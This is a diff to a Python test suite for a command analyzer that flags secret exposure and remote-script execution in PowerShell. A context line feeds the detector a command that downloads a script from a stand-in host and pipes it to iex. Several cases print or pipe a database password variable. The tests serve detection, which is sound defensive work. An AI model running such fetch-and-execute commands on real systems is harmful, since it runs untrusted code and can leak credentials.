@@ -109,6 +109,7 @@ def test_a_variable_that_holds_a_fetched_script_runs_in_a_shell_too() -> None:
     ("text", "shown"),
     [("Write-Host $env:DB_PASSWORD", True), ("\"x $env:DB_PASSWORD\"", True), ("$env:DB_PASSWORD | docker login --password-stdin", False),
      ("$env:DB_PASSWORD | Out-Host", True), ("if ($env:DB_PASSWORD) { a }", False), ("$p = $env:DB_PASSWORD", False), ("a | ? { $_ -eq $env:DB_PASSWORD }", False),
+     ("$password.Dispose()", False), ("function F { $password }", False),
      ("\"$env:DB_PASSWORD\" > f", False)],
 )
 def test_values_that_stand_alone_are_shown(text: str, shown: bool) -> None:
@@ -172,3 +173,9 @@ def test_powershell_text_in_a_shell_command() -> None:
     assert fetch.name == "iwr"
     assert fetch.downstream is not None
     assert held(downloads.piped_to_interpreter, "pwsh -c 'irm https://a.example/x | iex'", "bash") == ["irm"]
+
+
+def test_code_in_a_value_is_no_literal() -> None:
+    kinds = [[part.kind for part in command.assignments[0][1].parts] for command in commands('$a = "x"\n$b = 5\n$c = "x" + $y\n$d = [A]::B')]
+    assert kinds[:3] == [["literal"], ["literal"], ["literal", "arithmetic", "variable"]]
+    assert "arithmetic" in kinds[3]
